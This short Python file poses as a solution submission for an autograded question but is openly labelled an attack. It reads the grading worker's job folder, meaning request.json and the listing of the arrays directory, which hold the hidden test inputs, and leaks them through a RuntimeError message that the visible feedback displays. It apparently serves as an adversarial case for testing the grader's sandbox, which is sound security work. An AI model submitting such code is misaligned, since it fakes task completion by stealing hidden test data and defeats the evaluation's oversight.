# @@include solutions/q1_expressivity.py
# Attack: the worker that runs the visible checks' calls also runs the hidden ones, so their inputs sit in its job
# folder: put them into the error message of a visible check, which the feedback shows at once.
import os as _os
import sys as _sys

_DIR = _sys.argv[1]  # the job folder: /job under bubblewrap, its own path under Landlock
_JOB = open(f"{_DIR}/request.json").read() + "\narrays: " + " ".join(sorted(_os.listdir(f"{_DIR}/arrays")))


def box_network(h, delta):
    raise RuntimeError(f"the job: {_JOB}")
